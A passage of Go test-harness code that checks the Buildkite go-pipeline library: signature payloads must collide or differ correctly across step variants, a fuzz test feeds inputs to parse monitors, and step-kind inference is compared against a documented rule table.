		m.bySem[o.sem] = o
	}
	return true
}

// shuffleDoc returns a deep copy of a plain tree with the pairs of every
// mapping shuffled (document key order is not semantic for a command step).
func shuffleDoc(r *rand.Rand, n *doc.Node) *doc.Node {
	c := n.Clone()
	var rec func(x *doc.Node, keepOrder bool)
	rec = func(x *doc.Node, keepOrder bool) {
		switch x.Kind {
		case doc.KSeq:
			for _, e := range x.Seq {
				rec(e, keepOrder)
			}
		case doc.KMap:
			if !keepOrder {
				r.Shuffle(len(x.Map), func(i, j int) { x.Map[i], x.Map[j] = x.Map[j], x.Map[i] })
			}
			for _, p := range x.Map {
				rec(p.Val, false)
			}
		}
	}
	// top level: the step mapping; the `plugins` value (mapping form, or the
	// entries of the list form) is order-significant, the configs below are not
	r.Shuffle(len(c.Map), func(i, j int) { c.Map[i], c.Map[j] = c.Map[j], c.Map[i] })
	for _, p := range c.Map {
		if p.Key == "plugins" {
			switch p.Val.Kind {
			case doc.KMap:
				for _, pp := range p.Val.Map {
					rec(pp.Val, false)
				}
			case doc.KSeq:
				for _, e := range p.Val.Seq {
					if e.Kind == doc.KMap {
						for _, pp := range e.Map {
							rec(pp.Val, false)
						}
					}
				}
			}
			continue
		}
		rec(p.Val, false)
	}
	return c
}

func checkC14(c *run.Ctx) {
	all, err := keys.All()
	must(c, err)
	// K1 witness: skip "" vs absent collide although ShouldSkip differs.
	for _, f := range c.FindingsFor() {
		if f.ID != "K1" {
			continue
		}
		kp := all["EdDSA"][0]
		mk := func(skip any) *pipeline.CommandStep {
			return &pipeline.CommandStep{Command: "a", Matrix: &pipeline.Matrix{Setup: pipeline.MatrixSetup{"": {"x"}},
				Adjustments: pipeline.MatrixAdjustments{{With: pipeline.MatrixAdjustmentWith{"": "y"}, Skip: skip}}}}
		}
		_, p1, e1 := signStep(kp, mk(nil), "r", nil)
		_, p2, e2 := signStep(kp, mk(""), "r", nil)
		c.Witness(f, e1 == nil && e2 == nil && string(p1) == string(p2), `payloads for adjustment skip absent and skip "" are identical although ShouldSkip differs`)
	}
	mon := &c14Monitor{byPay: map[[32]byte]c14Obs{}, bySem: map[[32]byte]c14Obs{}}
	n := c.N(1200, 30000)
	c.Parallel("family", n, func(i int, r *rand.Rand) {
		id := run.CaseID("family", i)
		o := signOpts
		o.BigMaps = i%4 == 0
		if i%2 == 0 {
			o.SweepMatrix = 3 + r.IntN(7)
		}
		if i%3 != 0 {
			o.SweepPlugins = []int{0, 1, 2, 3, 6}[r.IntN(5)]
		}
		stDoc, _, err := gen.CommandStepDoc(r, o)
		if err != nil {
			return
		}
		parse := func(d *doc.Node, yamlForm bool) (*pipeline.CommandStep, error) {
			var text string
			full := doc.M(doc.P("steps", doc.L(d)))
			if yamlForm {
				var err error
				text, err = doc.ToYAML(full, doc.YAMLOpts{Rng: r, Flow: 0.3, Compact: true})
				if err != nil {
					return nil, err
				}
			} else {
				text = string(doc.ToJSON(full))
			}
			p, err := parseText(text)
			if err != nil {
				return nil, fmt.Errorf("%v in %s", err, text)
			}
			cs, ok := p.Steps[0].(*pipeline.CommandStep)
			if !ok {
				return nil, fmt.Errorf("parsed as %T", p.Steps[0])
			}
			return cs, nil
		}
		base, err := parse(stDoc, false)
		if err != nil {
			c.Count("generator_errors", 1)
			return
		}
		penv := map[string]string{}
		for k, m := 0, r.IntN(4); k < m; k++ {
			penv[fmt.Sprintf("P%d", k)] = gen.String(r, gen.StringOpts{Tricky: true})
		}
		for k := range base.Env {
			if r.IntN(3) == 0 {
				penv[k] = "shadowed"
			}
		}
		penv0 := copyEnv(penv) // pristine copy: penv itself is handed to many Sign calls, the way SignSteps hands one map to every step
		repo := gen.Pick(r, []string{"git@github.com:o/r.git", "https://x/y", "", "r"})
		kinds := []string{"EdDSA", "EdDSA", "EdDSA", "ES512", "PS512", "ES256-signer"}
		kp := all[kinds[mix(i, 1, len(kinds))]][0]

		ok := true
		observe := func(desc string, st *pipeline.CommandStep, pe map[string]string, rp string, k *keys.Pair) []byte {
			if !ok {
				return nil
			}
			_, payload, err := signStep(k, st, rp, pe)
			if err != nil || payload == nil {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("Sign failed or produced no debug payload: %v", err), "variant": desc})
				ok = false
				return nil
			}
			if reflect.ValueOf(pe).Pointer() == reflect.ValueOf(penv).Pointer() {
				// the payload depends on content only, not on what earlier Sign calls did with the same env map
				_, fresh, ferr := signStep(k, st, rp, copyEnv(penv0))
				if ferr == nil && string(fresh) != string(payload) {
					c.Violation(id, map[string]any{"what": "the payload for one step, env content, repository and algorithm differs between an env map that earlier Sign calls were given and a fresh copy of the same content (payload depends on signing history)",
						"variant": desc, "payload_shared_map": clip(string(payload), 3000), "payload_fresh_copy": clip(string(fresh), 3000), "pipeline_env": penv0})
					ok = false
					return nil
				}
				c.Count("payloads_compared_shared_vs_fresh_env_map", 1)
				pe = penv0
			}
			sem := semanticForm(st, pe, rp, k.Alg)
			c.Eval(1)
			c.Count("variant_"+strings.SplitN(desc, ":", 2)[0], 1)
			if !mon.observe(c, id, c14Obs{payload: sha256.Sum256(payload), sem: sha256.Sum256([]byte(sem)), desc: fmt.Sprintf("%s %s", id, desc), payTxt: string(payload), semTxt: sem}) {
				ok = false
			}
			return payload
		}
		p0 := observe("base", base, penv, repo, kp)
		if !ok {
			return
		}
		mustEqual := func(desc string, p []byte) {
			if ok && p != nil && string(p) != string(p0) {
				c.Violation(id, map[string]any{"what": "re-ordering / re-spelling variant has a different payload: " + desc, "payload_base": clip(string(p0), 3000), "payload_variant": clip(string(p), 3000)})
				ok = false
			}
		}
		mustDiffer := func(desc string, p []byte) {
			if ok && p != nil && string(p) == string(p0) {
				c.Violation(id, map[string]any{"what": "boundary-shifting / single-point variant has the same payload: " + desc, "payload": clip(string(p0), 3000)})
				ok = false
			}
		}
		// the verifying side builds the same bytes from the same content, whatever else its env holds - also
		// variables that happen to be called like the signed fields
		if sig0, _, err := signStep(kp, base, repo, copyEnv(penv0)); err == nil {
			venv := copyEnv(penv0)
			for _, n := range []string{"command", "env", "plugins", "matrix", "repository_url", "UNRELATED"} {
				if _, has := venv[n]; !has {
					venv[n] = "unrelated " + n
				}
			}
			vp, verr := verifyStep(kp.Verifier, sig0, base, repo, venv)
			c.Eval(1)
			if verr != nil || string(vp) != string(p0) {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("Verify built a different payload than Sign for the same step, repository and pipeline env (the verification env also holds unrelated variables named like the signed fields); err=%v", verr),
					"payload_sign": clip(string(p0), 3000), "payload_verify": clip(string(vp), 3000)})
				ok = false
				return
			}
			c.Count("verify_payload_equals_sign_payload", 1)
		}
		// ---- must collide
		mustEqual("collide:repeat", observe("collide:repeat", base, penv, repo, kp))
		for k := 0; k < 2; k++ {
			sh, err := parse(shuffleDoc(r, stDoc), k == 1)
			if err == nil {
				mustEqual("collide:document-key-order", observe("collide:document-key-order", sh, penv, repo, kp))
			}
		}
		{ // Go map insertion order: rebuild all Go maps in a different insertion order
			tw := util.DeepCopy(base)
			mustEqual("collide:map-rebuilt", observe("collide:map-rebuilt", tw, copyEnv(penv), repo, kp))
		}
		{ // nil <-> empty containers
			tw := util.DeepCopy(base)
			if len(tw.Env) == 0 {
				if tw.Env == nil {
					tw.Env = map[string]string{}
				} else {
					tw.Env = nil
				}
			}
			if len(tw.Plugins) == 0 {
				if tw.Plugins == nil {
					tw.Plugins = pipeline.Plugins{}
				} else {
					tw.Plugins = nil
				}
			}
			if tw.Matrix == nil {
				tw.Matrix = &pipeline.Matrix{}
			} else if tw.Matrix.IsEmpty() {
				tw.Matrix = nil
			} else {
				// inner containers of a non-empty matrix: nil <-> empty
				if len(tw.Matrix.Adjustments) == 0 {
					if tw.Matrix.Adjustments == nil {
						tw.Matrix.Adjustments = pipeline.MatrixAdjustments{}
					} else {
						tw.Matrix.Adjustments = nil
					}
				}
				if len(tw.Matrix.RemainingFields) == 0 {
					if tw.Matrix.RemainingFields == nil {
						tw.Matrix.RemainingFields = map[string]any{}
					} else {
						tw.Matrix.RemainingFields = nil
					}
				}
				for _, a := range tw.Matrix.Adjustments {
					if a != nil && len(a.RemainingFields) == 0 {
						if a.RemainingFields == nil {
							a.RemainingFields = map[string]any{}
						} else {
							a.RemainingFields = nil
						}
					}
				}
			}
			pe := copyEnv(penv)
			if len(pe) == 0 {
				pe = nil
			}
			mustEqual("collide:nil-vs-empty", observe("collide:nil-vs-empty", tw, pe, repo, kp))
		}
		if len(base.Plugins) > 0 { // short <-> canonical source; int <-> integral float; empty config <-> null
			tw := util.DeepCopy(base)
			for _, p := range tw.Plugins {
				p.Source = (&pipeline.Plugin{Source: p.Source}).FullSource()
				if cfg, isMap := p.Config.(map[string]any); isMap {
					for k, v := range cfg {
						if iv, isInt := v.(int); isInt {
							cfg[k] = float64(iv)
						}
					}
					if len(cfg) == 0 {
						p.Config = nil
					}
				} else if p.Config == nil && r.IntN(2) == 0 {
					p.Config = map[string]any{}
				}
			}
			mustEqual("collide:plugin-respelling", observe("collide:plugin-respelling", tw, penv, repo, kp))
		}
		{ // a pipeline variable shadowed by the step env does not matter
			pe := copyEnv(penv)
			for k := range base.Env {
				pe[k] = "another value " + k
				break
			}
			if len(base.Env) > 0 {
				mustEqual("collide:shadowed-pipeline-var", observe("collide:shadowed-pipeline-var", base, pe, repo, kp))
			}
		}
		// ---- must differ: boundary shifts
		{
			tw := util.DeepCopy(base)
			tw.Command = base.Command + "X"
			mustDiffer("differ:command-vs-repo", observe("differ:command-vs-repo(a)", tw, penv, repo, kp))
			mustDiffer("differ:command-vs-repo", observe("differ:command-vs-repo(b)", base, penv, "X"+repo, kp))
			if ok {
				_, pa, _ := signStep(kp, tw, repo, penv)
				_, pb, _ := signStep(kp, base, "X"+repo, penv)
				if string(pa) == string(pb) {
					c.Violation(id, map[string]any{"what": "a rune moved between command and repository URL does not change the payload"})
					ok = false
				}
			}
		}
		// the repository URL counts as written: a suffix, a slash or a letter more is another repository
		for _, suf := range []string{".git", "t", "g", ".", "i", "/"} {
			mustDiffer("differ:repository-url-suffix "+suf, observe("differ:repository-url-suffix", base, penv, repo+suf, kp))
		}
		if len(base.Env) > 0 {
			for k, v := range base.Env {
				tw := util.DeepCopy(base)
				delete(tw.Env, k)
				tw.Env[k+"x"] = v
				tw2 := util.DeepCopy(base)
				tw2.Env[k] = "x" + v
				pa := observe("differ:env-key-vs-value(a)", tw, penv, repo, kp)
				pb := observe("differ:env-key-vs-value(b)", tw2, penv, repo, kp)
				mustDiffer("differ:env-key-vs-value", pa)
				mustDiffer("differ:env-key-vs-value", pb)
				if ok && string(pa) == string(pb) {
					c.Violation(id, map[string]any{"what": "a rune moved between an env key and its value does not change the payload"})
					ok = false
				}
				// the variable moved from the step env to the pipeline env
				tw3 := util.DeepCopy(base)
				delete(tw3.Env, k)
				pe := copyEnv(penv)
				pe[k] = v
				mustDiffer("differ:var-step-env-to-pipeline-env", observe("differ:var-step-env-to-pipeline-env", tw3, pe, repo, kp))
				break
			}
		}
		if len(base.Plugins) > 1 {
			tw := util.DeepCopy(base)
			tw.Plugins[0].Source += "z"
			tw2 := util.DeepCopy(base)
			tw2.Plugins[1].Source = "z" + tw2.Plugins[1].Source
			pa := observe("differ:adjacent-plugin-sources(a)", tw, penv, repo, kp)
			pb := observe("differ:adjacent-plugin-sources(b)", tw2, penv, repo, kp)
			mustDiffer("differ:adjacent-plugin-sources", pa)
			if ok && string(pa) == string(pb) {
				c.Violation(id, map[string]any{"what": "a rune moved between adjacent plugin sources does not change the payload"})
				ok = false
			}
		}
		if len(base.Plugins) > 0 {
			tw := util.DeepCopy(base)
			switch cfg := tw.Plugins[0].Config.(type) {
			case map[string]any:
				cfg["one"] = "1"
				tw2 := util.DeepCopy(tw)
				tw2.Plugins[0].Config.(map[string]any)["one"] = 1
				pa := observe("differ:string-vs-number(a)", tw, penv, repo, kp)
				pb := observe("differ:string-vs-number(b)", tw2, penv, repo, kp)
				if ok && string(pa) == string(pb) {
					c.Violation(id, map[string]any{"what": `"1" and 1 in a plugin config give the same payload`})
					ok = false
				}
			}
		}
		if len(base.Plugins) > 0 && ok {
			// an integer of 2^53 and beyond (a byte count, a nanosecond timestamp, an id) against the string of its
			// digits, in a plugin config and in an unknown matrix field: a number is never signed like a string
			if _, isMap := base.Plugins[0].Config.(map[string]any); isMap || base.Plugins[0].Config == nil {
				n := []int64{1 << 53, 1<<53 + 1, 1125899906842624001, -9007199254740993, 1<<63 - 1, 1 << 31, 1<<53 - 1}[r.IntN(7)]
				tw, tw2 := util.DeepCopy(base), util.DeepCopy(base)
				for _, t := range []*pipeline.CommandStep{tw, tw2} {
					if t.Plugins[0].Config == nil {
						t.Plugins[0].Config = map[string]any{}
					}
				}
				tw.Plugins[0].Config.(map[string]any)["big"] = int(n)
				tw2.Plugins[0].Config.(map[string]any)["big"] = fmt.Sprint(n)
				pa := observe("differ:large-integer-vs-its-digits(a)", tw, penv, repo, kp)
				pb := observe("differ:large-integer-vs-its-digits(b)", tw2, penv, repo, kp)
				if ok && pa != nil && string(pa) == string(pb) {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("the integer %d and the string %q in a plugin config give the same payload", n, fmt.Sprint(n)), "payload": clip(string(pa), 3000)})
					ok = false
				}
			}
		}
		if mx := base.Matrix; mx != nil {
			for d, vs := range mx.Setup {
				if len(vs) > 1 {
					tw := util.DeepCopy(base)
					tw.Matrix.Setup[d][0] += "q"
					tw2 := util.DeepCopy(base)
					tw2.Matrix.Setup[d][1] = "q" + tw2.Matrix.Setup[d][1]
					pa := observe("differ:dimension-values(a)", tw, penv, repo, kp)
					pb := observe("differ:dimension-values(b)", tw2, penv, repo, kp)
					mustDiffer("differ:dimension-values", pa)
					if ok && string(pa) == string(pb) {
						c.Violation(id, map[string]any{"what": "a rune moved between two dimension values does not change the payload"})
						ok = false
					}
				}
				break
			}
		}
		// two steps that differ in a real matrix field still differ in payload when both carry the same unknown
		// field that happens to be named like that real field (built in code, or renamed there by interpolation)
		if mx := base.Matrix; mx != nil && ok {
			for d, vs := range mx.Setup {
				if len(mx.Setup) == 1 && d == "" && len(mx.Adjustments) == 0 {
					break // the list shorthand has no room for unknown fields
				}
				a, b := util.DeepCopy(base), util.DeepCopy(base)
				for _, t := range []*pipeline.CommandStep{a, b} {
					if t.Matrix.RemainingFields == nil {
						t.Matrix.RemainingFields = map[string]any{}
					}
					t.Matrix.RemainingFields["setup"] = map[string]any{"shadow": []any{"s"}}
					t.Matrix.RemainingFields["adjustments"] = []any{}
				}
				b.Matrix.Setup[d] = append(append([]string{}, vs...), "one-more-value")
				_, pa, ea := signStep(kp, a, repo, copyEnv(penv0))
				_, pb, eb := signStep(kp, b, repo, copyEnv(penv0))
				c.Eval(1)
				if ea == nil && eb == nil && string(pa) == string(pb) {
					c.Violation(id, map[string]any{"what": "two steps whose matrix setups differ have the same payload when both carry an unknown matrix field named `setup`", "payload": clip(string(pa), 3000)})
					ok = false
				}
				c.Count("variant_differ:real-field-vs-same-named-unknown-field", 1)
				break
			}
			for ai, adj := range mx.Adjustments {
				if adj == nil || len(adj.With) == 0 || !ok {
					continue
				}
				a, b := util.DeepCopy(base), util.DeepCopy(base)
				for _, t := range []*pipeline.CommandStep{a, b} {
					if t.Matrix.Adjustments[ai].RemainingFields == nil {
						t.Matrix.Adjustments[ai].RemainingFields = map[string]any{}
					}
					t.Matrix.Adjustments[ai].RemainingFields["with"] = map[string]any{"shadow": "s"}
					t.Matrix.Adjustments[ai].RemainingFields["skip"] = "shadow"
				}
				for k, v := range b.Matrix.Adjustments[ai].With {
					b.Matrix.Adjustments[ai].With[k] = v + "-changed"
					break
				}
				_, pa, ea := signStep(kp, a, repo, copyEnv(penv0))
				_, pb, eb := signStep(kp, b, repo, copyEnv(penv0))
				c.Eval(1)
				if ea == nil && eb == nil && string(pa) == string(pb) {
					c.Violation(id, map[string]any{"what": "two steps whose adjustment values differ have the same payload when both adjustments carry an unknown field named `with`", "payload": clip(string(pa), 3000)})
					ok = false
				}
				c.Count("variant_differ:real-field-vs-same-named-unknown-field", 1)
				break
			}
		}
		// algorithm name
		otherKind := "ES512"
		if kp.Kind == "ES512" {
			otherKind = "EdDSA"
		}
		mustDiffer("differ:algorithm", observe("differ:algorithm", base, penv, repo, all[otherKind][0]))
		// every C01 single-point mutation of the step / env / repo
		if sig, _, err := signStep(kp, base, repo, penv); err == nil && ok {
			sc := &signCase{Step: base, Penv: penv, Repo: repo}
			for _, m := range c01Mutants(r, sc, sig, kp, all[kp.Kind][1], all[otherKind][0], "", nil) {
				if m.AlwaysReject || m.MustAccept || strings.HasPrefix(m.Kind, "venv:") {
					continue
				}
				observe("mutation:"+m.Kind, m.Step, penv, m.Repo, kp)
			}
		}
		// the same step signed as one of several by SignSteps: its bytes depend on its own content, the pipeline env,
		// the repository and the algorithm - not on its siblings, its position or what was signed before it
		if ok {
			pe := copyEnv(penv0)
			if len(pe) == 0 {
				pe["PV"] = "1"
			}
			names := refmodel.SortedKeys(pe)
			shadowing := util.DeepCopy(base)
			if shadowing.Env == nil {
				shadowing.Env = map[string]string{}
			}
			shadowing.Env[names[0]] = "defined by the step"
			other := &pipeline.CommandStep{Command: "sibling", Env: map[string]string{names[len(names)-1]: "x", "ONLY_HERE": "y"}}
			list := []*pipeline.CommandStep{{Command: "plain sibling"}, shadowing, util.DeepCopy(base), other, {Command: "last"}}
			r.Shuffle(len(list), func(a, b int) { list[a], list[b] = list[b], list[a] })
			alone := make([][]byte, len(list))
			for k, st := range list {
				_, alone[k], _ = signStep(kp, util.DeepCopy(st), repo, copyEnv(pe))
			}
			steps := pipeline.Steps{}
			if r.IntN(2) == 0 {
				steps = append(steps, list[0], &pipeline.GroupStep{Steps: pipeline.Steps{list[1], list[2]}}, list[3], list[4])
			} else {
				for _, st := range list {
					steps = append(steps, st)
				}
			}
			l := &payloadLogger{}
			var serr error
			if pi := run.Guard(func() {
				serr = signature.SignSteps(bg, steps, kp.Signer, repo, signature.WithEnv(pe), signature.WithLogger(l), signature.WithDebugSigning(true))
			}); pi != nil {
				c.Violation(id, map[string]any{"what": "SignSteps panicked: " + pi.Value, "stack": pi.Stack})
				ok = false
			} else if serr != nil || len(l.payloads) != len(list) {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("SignSteps over %d command steps: err=%v, %d payloads on the debug channel", len(list), serr, len(l.payloads))})
				ok = false
			} else {
				for k := range list {
					c.Eval(1)
					if string(l.payloads[k]) != string(alone[k]) {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("the payload of step %d of %d signed by SignSteps differs from the payload of the same step signed alone with the same pipeline env, repository and key (payload depends on the siblings signed before it)", k, len(list)),
							"payload_in_list": clip(string(l.payloads[k]), 3000), "payload_alone": clip(string(alone[k]), 3000), "pipeline_env": pe, "commands_in_order": []string{list[0].Command, list[1].Command, list[2].Command, list[3].Command, list[4].Command}})
						ok = false
						break
					}
				}
				c.Count("payloads_compared_signed_in_a_list_vs_alone", len(list))
			}
		}
		c.Feature(kp.Kind, len(base.Plugins), base.Matrix != nil, len(base.Env) > 0, len(penv) > 0, o.BigMaps)
		if ok && c.WantSample() {
			c.Sample(map[string]any{"payload": clip(string(p0), 1000), "semantic_form": clip(semanticForm(base, penv, repo, kp.Alg), 1000)})
		}
	})
	c.Count("payloads_observed", mon.observed)
	c.Count("distinct_payloads", len(mon.byPay))
	c.Count("distinct_semantic_forms", len(mon.bySem))
	c.Finish("exploration",
		"families of variants around generated command steps (with pipeline env, repository URL, key kind): must-collide variants (repeat, shuffled document key order in JSON and YAML, rebuilt Go maps, nil vs empty containers, short vs canonical plugin source, int vs integral float and empty config vs null in plugin configs, changed value of a shadowed pipeline variable) and must-differ variants (a rune moved between command and repository URL, between an env key and its value, between adjacent plugin sources, between two dimension values, a variable moved between step env and pipeline env, \"1\" vs 1, algorithm name, every C01 single-point content mutation); payloads are read from the debug logger channel of Sign. Besides the pairwise assertions, a batch-wide monitor requires the partition by payload hash and the partition by the harness's semantic form to be identical. distinct_nontrivial counts distinct (key kind, plugin count, matrix, env, pipeline env, big maps) classes",
		nil,
		[]string{"two integers beyond 2^53 that round to the same double are not distinguished by JCS by specification; such integers are only compared with the string of their digits", "skip: false = absent (both mean not skipped); skip \"\"/0 vs absent is known finding K1", "timestamps in configs are not generated"})
}
