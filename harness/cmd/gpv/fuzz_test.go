package main

import (
	"os"
	"path/filepath"
	"sync"
	"testing"

	"verif/run"
)

// FuzzParseMonitors feeds coverage-guided inputs (Go native fuzzing, used
// only as a workload generator, bounded by an execution count) to the same
// monitors as the seeded generators of C13.
//
//	go test -tags verif -run '^$' -fuzz '^FuzzParseMonitors$' -fuzztime 3000000x ./cmd/gpv
var (
	fuzzOnce sync.Once
	fuzzCtx  *run.Ctx
)

func FuzzParseMonitors(f *testing.F) {
	dir := os.Getenv("GPV_VERIF_DIR")
	if dir == "" {
		dir = filepath.Join("..", "..", "..")
	}
	files, _ := filepath.Glob(filepath.Join(dir, "corpus", "*"))
	for _, fn := range files {
		if b, err := os.ReadFile(fn); err == nil {
			f.Add(b)
		}
	}
	f.Add([]byte("steps:\n  - command: a\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		fuzzOnce.Do(func() {
			args := []string{"-tier", "thorough"}
			if k := os.Getenv("GPV_KNOWN"); k != "" {
				args = append(args, "-known", k)
			}
			if r := os.Getenv("GPV_REPLAYS"); r != "" {
				args = append(args, "-replays", r)
			}
			fuzzCtx = run.New("C13", args)
		})
		if _, ok := c13Check(fuzzCtx, "fuzz/0", data, "native-fuzz"); !ok {
			t.Fatalf("C13 monitor violated on fuzz input (see the VIOLATION line / replay file)")
		}
	})
}
