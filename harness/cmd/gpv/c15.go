package main

import (
	"encoding/base64"
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/warning"

	"verif/doc"
	"verif/gen"
	"verif/run"
)

func init() { register("C15", checkC15) }

var c15Keys = []string{"command", "commands", "plugins", "wait", "waiter", "block", "input", "manual", "trigger", "group"}

func c15KeyValue(k string) *doc.Node {
	switch k {
	case "command":
		return doc.S("c")
	case "commands":
		return doc.L(doc.S("c1"), doc.S("c2"))
	case "plugins":
		return doc.L(doc.M(doc.P("p#v1", doc.M(doc.P("x", doc.I(1))))))
	case "wait", "waiter":
		return doc.Null()
	}
	return doc.S(k + "-value")
}

// c15Table is the documented rule table. typ == nil means no `type` key.
func c15Table(keys map[string]bool, typ *string) (kind string, sentinel error) {
	if typ != nil {
		switch *typ {
		case "command", "script":
			return "command", nil
		case "wait", "waiter":
			return "wait", nil
		case "block", "input", "manual":
			return "input", nil
		case "trigger":
			return "trigger", nil
		case "group":
			return "group", nil
		}
		return "unknown", pipeline.ErrUnknownStepType
	}
	switch {
	case keys["command"] || keys["commands"] || keys["plugins"]:
		return "command", nil
	case keys["wait"] || keys["waiter"]:
		return "wait", nil
	case keys["block"] || keys["input"] || keys["manual"]:
		return "input", nil
	case keys["trigger"]:
		return "trigger", nil
	case keys["group"]:
		return "group", nil
	}
	return "unknown", pipeline.ErrStepTypeInference
}

func stepKind(s pipeline.Step) string {
	switch s.(type) {
	case *pipeline.CommandStep:
		return "command"
	case *pipeline.WaitStep:
		return "wait"
	case *pipeline.InputStep:
		return "input"
	case *pipeline.TriggerStep:
		return "trigger"
	case *pipeline.GroupStep:
		return "group"
	case *pipeline.UnknownStep:
		return "unknown"
	case nil:
		return "<nil>"
	}
	return fmt.Sprintf("%T", s)
}

func checkC15(c *run.Ctx) {
	types := []*string{nil}
	for _, t := range []string{"command", "script", "wait", "waiter", "block", "input", "manual", "trigger", "group", "nope", "", "Command", "steps", "wait ", " trigger", "block\n", "\tcommand"} {
		t := t
		types = append(types, &t)
	}
	extraVariants := []string{"none", "benign", "empty-key", "alias-names", "many", "quoted-merge-key"}
	nrows := (1 << len(c15Keys)) * len(types) * len(extraVariants)
	c.Count("table_rows", nrows)
	c.Parallel("table", nrows, func(i int, r *rand.Rand) {
		mask := i % (1 << len(c15Keys))
		ti := (i >> len(c15Keys)) % len(types)
		ev := extraVariants[(i>>len(c15Keys))/len(types)]
		typ := types[ti]
		keys := map[string]bool{}
		var pairs []doc.Pair
		for b, k := range c15Keys {
			if mask&(1<<b) != 0 {
				keys[k] = true
				v := c15KeyValue(k)
				if k == "plugins" {
					// the three spellings of the plugins value: a list, the legacy single mapping, null
					switch mix(i, 1, 3) {
					case 1:
						v = doc.M(doc.P("p#v1", doc.M(doc.P("x", doc.I(1)))), doc.P("q#v2", doc.Null()))
					case 2:
						v = doc.Null()
					}
				}
				pairs = append(pairs, doc.P(k, v))
			}
		}
		if typ != nil {
			pairs = append(pairs, doc.P("type", doc.S(*typ)))
		}
		switch ev {
		case "benign":
			pairs = append(pairs, doc.P("zz_extra", doc.I(1)), doc.P("label", doc.S("l")), doc.P("key", doc.S("k")), doc.P("depends_on", doc.L(doc.S("a"))))
		case "empty-key":
			pairs = append(pairs, doc.P("", doc.S("e")))
		case "alias-names":
			pairs = append(pairs, doc.P("name", doc.S("n")), doc.P("id", doc.S("i")), doc.P("identifier", doc.S("x")), doc.P("steps", doc.L()))
		case "quoted-merge-key":
			// a key spelled "<<" as a quoted string / JSON key is an ordinary key, not a merge: what its mapping value
			// holds (kind-determining keys, a type) is none of the step's business
			inner := []*doc.Node{
				doc.M(doc.P("wait", doc.Null())),
				doc.M(doc.P("type", doc.S("wait"))),
				doc.M(doc.P("command", doc.S("make")), doc.P("type", doc.S("command"))),
				doc.M(doc.P("trigger", doc.S("deploy")), doc.P("block", doc.S("b")), doc.P("group", doc.S("g"))),
				doc.L(doc.M(doc.P("type", doc.S("trigger")))),
			}[i%5]
			pairs = append(pairs, doc.P("<<", inner))
		case "many":
			for k := 0; k < 12; k++ {
				pairs = append(pairs, doc.P(fmt.Sprintf("extra_%d", k), gen.Value(r, gen.ValueOpts{MaxDepth: 2, Str: gen.StringOpts{Tricky: true}, NoTime: true}, 0)))
			}
			pairs = append(pairs, doc.P("", doc.Null()))
		}
		// key order must not matter either
		r.Shuffle(len(pairs), func(a, b int) { pairs[a], pairs[b] = pairs[b], pairs[a] })
		if len(pairs) == 0 {
			// an empty mapping: no family key
		}
		step := &doc.Node{Kind: doc.KMap, Map: pairs}
		wantKind, wantSentinel := c15Table(keys, typ)
		for _, position := range []string{"top", "group"} {
			for _, format := range []string{"json", "yaml"} {
				var d *doc.Node
				if position == "top" {
					d = doc.M(doc.P("steps", doc.L(step)))
				} else {
					d = doc.M(doc.P("steps", doc.L(doc.M(doc.P("group", doc.S("G")), doc.P("steps", doc.L(step))))))
				}
				var text string
				if format == "json" {
					text = string(doc.ToJSON(d))
				} else {
					var err error
					text, err = doc.ToYAML(d, doc.YAMLOpts{Rng: r, Flow: 0.2, Compact: true})
					if err != nil {
						c.Infra("render: %v", err)
						return
					}
				}
				id := run.CaseID("table", i)
				var p *pipeline.Pipeline
				var perr error
				if pi := run.Guard(func() { p, perr = pipeline.Parse(strings.NewReader(text)) }); pi != nil {
					c.Violation(id, map[string]any{"what": "Parse panicked: " + pi.Value, "document": text, "stack": pi.Stack})
					return
				}
				c.Eval(1)
				if perr != nil && !warning.Is(perr) {
					c.Violation(id, map[string]any{"what": "well-typed step document hard-fails: " + perr.Error(), "document": text})
					return
				}
				steps := p.Steps
				if position == "group" && len(steps) == 1 {
					g, ok := steps[0].(*pipeline.GroupStep)
					if !ok {
						// A group whose child falls back to an unknown step may
						// itself be kept verbatim as one unknown step (the
						// warning must still name the cause).
						if _, unk := steps[0].(*pipeline.UnknownStep); unk && wantKind == "unknown" && perr != nil && errors.Is(perr, wantSentinel) {
							c.Count("group_with_unknown_child_kept_as_unknown", 1)
							continue
						}
						c.Violation(id, map[string]any{"what": fmt.Sprintf("enclosing group parsed as %s", stepKind(steps[0])), "document": text, "warning": fmt.Sprint(perr)})
						return
					}
					steps = g.Steps
				}
				if len(steps) != 1 {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("expected one step, got %d", len(steps)), "document": text})
					return
				}
				got := stepKind(steps[0])
				c.Count("kind_"+got, 1)
				if got != wantKind {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("step parsed as %s, rule table says %s (position %s, %s, extras %s)", got, wantKind, position, format, ev), "document": text, "warning": fmt.Sprint(perr)})
					return
				}
				if wantKind == "unknown" {
					if perr == nil || !errors.Is(perr, wantSentinel) {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("unknown step without a warning wrapping %q (got %v)", wantSentinel, perr), "document": text})
						return
					}
					other := pipeline.ErrStepTypeInference
					if wantSentinel == pipeline.ErrStepTypeInference {
						other = pipeline.ErrUnknownStepType
					}
					if errors.Is(perr, other) {
						c.Violation(id, map[string]any{"what": fmt.Sprintf("warning names the wrong cause (%v)", perr), "document": text})
						return
					}
				} else if perr != nil {
					c.Violation(id, map[string]any{"what": "known step kind but a warning was reported: " + perr.Error(), "document": text})
					return
				}
			}
		}
		typS := "<absent>"
		if typ != nil {
			typS = *typ
		}
		c.Feature(mask, typS, ev)
		if c.WantSample() && mask == 0b1000001010 {
			c.Sample(map[string]any{"keys": refKeys(keys), "type": typS, "extras": ev, "kind": wantKind})
		}
	})

	// A declared type whose fields do not decode (a scalar where a list or mapping belongs) next to a well-typed key
	// of another family: the step is kept as an unknown step - the other family's key never takes over.
	c15EditedPhase(c)
	c15ManyPhase(c)
	c.Phase("ill-typed", func() {
		type bad struct {
			typ, key string
			val      *doc.Node
		}
		var bads []bad
		for _, t := range []string{"command", "script"} {
